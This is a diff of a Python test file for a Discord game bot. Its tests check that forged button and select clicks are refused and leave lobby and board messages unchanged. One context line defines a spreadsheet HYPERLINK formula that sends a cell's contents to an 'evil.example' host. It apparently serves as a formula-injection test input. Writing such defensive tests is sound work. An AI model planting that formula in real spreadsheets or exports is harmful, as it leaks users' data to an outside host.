@@ -14,10 +14,13 @@ import io
 from typing import Any
 
 import discord
+import pytest
 
+from bot.ui.components import hand_view, lobby_view
+from bot.ui.provenance import NotThisMessage
 from tests.bot.afrika_tables import lobby_message
-from tests.bot.table import custom_ids, last_reply, make_table
-from tests.bot.test_ratings import challenge
+from tests.bot.table import custom_ids, game_thread, last_reply, make_table, move_ids, panel_message
+from tests.bot.test_ratings import against_the_ai, challenge
 from tests.bot.test_trust_ids import FORGED, _click
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for prizes")'
@@ -171,3 +174,121 @@ async def test_a_history_page_of_one_server_is_refused_on_another(simcord_env) -
     # with no server in the id (an older page), a page shows the server it is clicked in
     said = await _click(env, there, lounge, f"hist:{alice.id}:{alice.id}::0:n")
     assert said == "alice has no ended matches on this server yet.", said
+
+
+# ------------------------------------------------------------------ item 5: a click edits only its own message
+
+NOT_THIS = str(NotThisMessage())
+
+
+async def _add_forged(env: Any, message: Any, keep: discord.ui.View, custom_id: str, *, select: bool) -> None:
+    """The bot adds a forged component to one of its messages, keeping the components it has."""
+    if select:
+        keep.add_item(
+            discord.ui.Select(custom_id=custom_id, options=[discord.SelectOption(label="x", value="x")])
+        )
+    else:
+        keep.add_item(discord.ui.Button(label="Forged", custom_id=custom_id))
+    channel = env.bot.get_channel(message.channel.id)
+    await channel.get_partial_message(message.id).edit(view=keep)
+
+
+def _now(channel: Any, message_id: int) -> Any:
+    return next(m for m in channel.history() if m.id == message_id)
+
+
+FOREIGN_ON_A_LOBBY = [
+    "rp:{match}:1:n",  # a replay step: the lobby became a replay frame
+    "hist:{me}:{me}::0:n",  # a history page: the lobby became the clicker's history
+    "deckdel:1:{me}:no",  # a deck's Keep: the lobby became "Nothing was deleted."
+    "stops:afrika",  # the stops menu: the lobby became the clicker's settings
+]
+
+
+@pytest.mark.parametrize("forged", FOREIGN_ON_A_LOBBY, ids=[f.split(":")[0] for f in FOREIGN_ON_A_LOBBY])
+async def test_a_spectators_forged_click_leaves_an_open_lobby_alone(simcord_env, forged: str) -> None:
+    env = simcord_env
+    t = make_table(env)
+    bob, carol = t.members["bob"], t.members["carol"]
+    ended = await against_the_ai(env, t, "alice")
+    await bob.slash(t.channel, "play", game="chrono", seats=2)
+    lobby = lobby_message(t)
+    before = (lobby.embeds[0].to_dict(), custom_ids(lobby))
+    custom_id = forged.format(match=ended.id, me=carol.id)
+    select = custom_id.startswith("stops:")
+    await _add_forged(env, lobby, lobby_view(_lobby_id(lobby)), custom_id, select=select)
+    if select:
+        result = await carol.select(_now(t.channel, lobby.id), ["x"], custom_id=custom_id)
+    else:
+        result = await carol.click(_now(t.channel, lobby.id), custom_id=custom_id)
+    await env.settle()
+    reply = last_reply(result)
+    assert reply.content == NOT_THIS and reply.ephemeral, reply.content
+    after = _now(t.channel, lobby.id)
+    assert after.embeds and after.embeds[0].to_dict() == before[0], "the lobby is still the lobby"
+    assert [i for i in custom_ids(after) if i != custom_id] == before[1], "Join and Start are still there"
+    assert not after.attachments
+    assert await env.bot.db.players.get_settings(carol.id) == {}
+
+
+async def test_a_players_forged_move_or_page_leaves_the_public_board_alone(simcord_env) -> None:
+    """Alice copies her panel's buttons onto the board: her hand must not replace the board."""
+    env = simcord_env
+    t = make_table(env)
+    alice = t.members["alice"]
+    await alice.slash(t.channel, "play", game="afrika")
+    live = await env.bot.matches.get(max(env.bot.matches._cache))
+    thread = game_thread(t)
+    board = next(m for m in reversed(thread.history()) if f"hand:{live.id}" in custom_ids(m))
+    shown = (board.content, [a.filename for a in board.attachments])
+    move = move_ids(panel_message(alice, live.id))[0]
+    seq = live.seq
+    for custom_id in (f"mp:{live.id}:{seq}:0:^", f"mp:{live.id}:{seq}:1:>", move):
+        await _add_forged(env, board, hand_view(live.id), custom_id, select=False)
+        result = await alice.click(_now(thread, board.id), custom_id=custom_id)
+        await env.settle()
+        reply = last_reply(result)
+        assert reply.content == NOT_THIS and reply.ephemeral, (custom_id, reply.content)
+        now = _now(thread, board.id)
+        assert (now.content, [a.filename for a in now.attachments]) == shown, custom_id
+        assert f"hand:{live.id}" in custom_ids(now)
+        assert live.seq == seq, "the forged move was not played"
+    # the same buttons on her own panel still work
+    panel = panel_message(alice, live.id)
+    result = await alice.user.click(panel, custom_id=move)
+    assert live.seq > seq
+
+
+ANSWERS_THE_CLICKER_ONLY = {
+    # These send a new message (ephemeral, a DM, a modal) and never edit the one clicked.
+    "WatchReplayButton",
+    "HandButton",
+    "CardDetailsSelect",
+    "ReclaimSeatButton",
+    "LobbyDeckSelect",  # the lobby's own message is edited by its stored id
+    "OpenPackButton",
+    "ReclaimButton",
+    "OpenBuilderButton",
+    "OpenSideButton",
+}
+
+
+def test_every_component_that_edits_its_message_checks_the_message() -> None:
+    """A new component that edits the message it arrived on must ask ``require_own_message``
+    (directly, or through the puzzle panel's ``on_moves`` / ``on_page``, which do)."""
+    import inspect
+
+    from bot.ui import puzzle
+    from bot.ui.registry import ROUTED
+
+    checked_helpers = [f.__name__ for f in (puzzle.on_moves, puzzle.on_page)]
+    for helper in (puzzle.on_moves, puzzle.on_page):
+        assert "require_own_message(" in inspect.getsource(helper)
+    bare = []
+    for item in ROUTED:
+        if item.__name__ in ANSWERS_THE_CLICKER_ONLY:
+            continue
+        source = inspect.getsource(inspect.unwrap(item.callback))
+        if "require_own_message(" not in source and not any(f"{h}(" in source for h in checked_helpers):
+            bare.append(item.__name__)
+    assert not bare, f"components that may edit a message they are not on: {bare}"
